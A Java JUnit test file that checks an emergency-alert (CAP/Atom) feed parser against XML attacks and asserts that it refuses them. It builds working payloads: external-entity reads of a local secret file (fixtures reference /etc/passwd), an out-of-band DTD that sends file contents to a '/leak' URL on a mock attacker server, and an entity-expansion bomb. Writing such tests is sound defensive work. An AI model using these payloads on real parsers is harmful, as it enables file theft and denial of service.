package org.vigie.feeds.cap;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.vigie.core.geo.Marseille;
import org.vigie.feeds.FeedBatch;
import org.vigie.feeds.FeedContext;
import org.vigie.feeds.FeedParseException;

/**
 * XML external entities, out-of-band DTDs, entity expansion and XInclude, aimed at a real HTTP server and a real
 * file on this machine: the parser refuses every document that declares a DTD, no request ever reaches the
 * server, and the file's content never appears in anything the parser returns or throws.
 */
class CapXxeTest {
    static CapFormat format;
    static final FeedContext CONTEXT = new FeedContext("xxe", Instant.parse("2026-01-01T00:00:00Z"));

    HttpServer server;
    final List<String> requests = new CopyOnWriteArrayList<>();
    String base;
    @TempDir
    Path dir;
    Path secretFile;
    String secret;

    @BeforeAll
    static void city() {
        format = new CapFormat(Marseille.approximateCity());
    }

    @BeforeEach
    void start() throws IOException {
        secret = "VIGIE-SECRET-" + Long.toHexString(System.nanoTime());
        secretFile = Files.writeString(dir.resolve("secret.txt"), secret);
        server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.createContext("/", exchange -> {
            requests.add(exchange.getRequestURI().toString());
            // What an attacker's server would answer: a DTD that sends the file elsewhere.
            byte[] dtd = ("<!ENTITY % all \"<!ENTITY send SYSTEM '" + base + "/leak?%file;'>\"> %all;")
                    .getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, dtd.length);
            try (OutputStream out = exchange.getResponseBody()) {
                out.write(dtd);
            }
        });
        server.start();
        base = "http://" + server.getAddress().getHostString() + ":" + server.getAddress().getPort();
    }

    @AfterEach
    void stop() {
        server.stop(0);
    }

    private String aimed(String fixture, String attackerHost) throws IOException {
        return Files.readString(CapFixturesTest.DIR.resolve(fixture))
                .replace(attackerHost, base)
                .replace("file:///etc/passwd", secretFile.toUri().toString());
    }

    private void assertRefusedWithoutResolving(String document) {
        assertThatThrownBy(() -> format.parse(document.getBytes(StandardCharsets.UTF_8), CONTEXT))
                .isInstanceOf(FeedParseException.class)
                .satisfies(e -> {
                    for (Throwable t = e; t != null; t = t.getCause()) {
                        assertThat(String.valueOf(t.getMessage())).doesNotContain(secret);
                    }
                });
        assertThat(requests).as("requests that reached the attacker's server").isEmpty();
    }

    @Test
    void theXeeFixturesAreRefusedAndReachNothing() throws IOException {
        String cap = aimed("xee.cap", "http://localhost:8080");
        assertThat(cap).contains(base).contains(secretFile.toUri().toString());
        assertRefusedWithoutResolving(cap);
        assertThatThrownBy(() -> format.parse(cap.getBytes(StandardCharsets.UTF_8), CONTEXT))
                .hasMessageContaining("DTD");

        String atom = aimed("xee.atom", "http://googleusercontent.com");
        assertThat(atom).contains(base);
        assertRefusedWithoutResolving(atom);
    }

    @Test
    void theServerWouldSeeAParserThatResolves() throws Exception {
        // The control: without hardening, the JDK's own parser fetches the DTD, so an empty request list above
        // means the hardening held, not that the server was unreachable.
        var open = javax.xml.stream.XMLInputFactory.newDefaultFactory();
        var reader = open.createXMLStreamReader(new java.io.StringReader("<?xml version=\"1.0\"?>\n<!DOCTYPE alert SYSTEM \""
                + base + "/control.dtd\">\n<alert/>"));
        try {
            while (reader.hasNext()) {
                reader.next();
            }
        } catch (javax.xml.stream.XMLStreamException e) {
            // the served DTD refers to entities it does not define; the request is what counts
        }
        assertThat(requests).contains("/control.dtd");
    }

    @Test
    void anExternalDtdAloneIsRefusedBeforeItIsFetched() {
        assertRefusedWithoutResolving("<?xml version=\"1.0\"?>\n<!DOCTYPE alert SYSTEM \"" + base + "/payload.dtd\">\n"
                + "<alert xmlns=\"urn:oasis:names:tc:emergency:cap:1.2\"><identifier>x</identifier></alert>");
    }

    @Test
    void aLocalFileEntityNeverReachesTheEvents() {
        String doc = """
                <?xml version="1.0"?>
                <!DOCTYPE alert [ <!ENTITY xxe SYSTEM "%s"> ]>
                <alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">
                  <identifier>K1</identifier><sender>a@b</sender><sent>2025-12-31T23:00:00+00:00</sent>
                  <status>Actual</status><msgType>Alert</msgType><scope>Public</scope>
                  <info><category>Fire</category><event>Fire</event><urgency>Immediate</urgency>
                    <severity>Severe</severity><certainty>Observed</certainty><headline>&xxe;</headline>
                    <area><areaDesc>&xxe;</areaDesc><circle>43.3,5.4 1</circle></area></info>
                </alert>""".formatted(secretFile.toUri());
        assertRefusedWithoutResolving(doc);
    }

    @Test
    void parameterEntitiesAndOutOfBandExfiltrationAreRefused() {
        String doc = """
                <?xml version="1.0"?>
                <!DOCTYPE alert [
                  <!ENTITY %% file SYSTEM "%s">
                  <!ENTITY %% dtd SYSTEM "%s/evil.dtd">
                  %%dtd;
                ]>
                <alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&send;</identifier></alert>"""
                .formatted(secretFile.toUri(), base);
        assertRefusedWithoutResolving(doc);
    }

    @Test
    void entityExpansionIsRefused() {
        var doc = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE alert [\n <!ENTITY a0 \"lol\">\n");
        for (int i = 1; i <= 10; i++) {
            doc.append(" <!ENTITY a").append(i).append(" \"").append(("&a" + (i - 1) + ";").repeat(10)).append("\">\n");
        }
        doc.append("]>\n<alert xmlns=\"urn:oasis:names:tc:emergency:cap:1.2\"><identifier>&a10;</identifier></alert>");
        assertRefusedWithoutResolving(doc.toString());
    }

    @Test
    void xincludeAndSchemaLocationsWithoutADtdAreInertText() throws Exception {
        String doc = """
                <alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"
                       xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
                       xsi:schemaLocation="urn:oasis:names:tc:emergency:cap:1.2 %1$s/cap.xsd">
                  <x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="%2$s" parse="text"/></x>
                  <identifier>K2</identifier><sender>a@b</sender><sent>2025-12-31T23:00:00+00:00</sent>
                  <status>Actual</status><msgType>Alert</msgType><scope>Public</scope>
                  <info><category>Fire</category><event>Fire</event><urgency>Immediate</urgency>
                    <severity>Severe</severity><certainty>Observed</certainty>
                    <area><areaDesc>Joliette</areaDesc><circle>43.305,5.366 0.2</circle></area></info>
                </alert>""".formatted(base, secretFile.toUri());
        FeedBatch batch = format.parse(doc.getBytes(StandardCharsets.UTF_8), CONTEXT);
        assertThat(batch.events()).hasSize(1);
        assertThat(batch.events().toString()).doesNotContain(secret);
        assertThat(requests).isEmpty();
    }
}
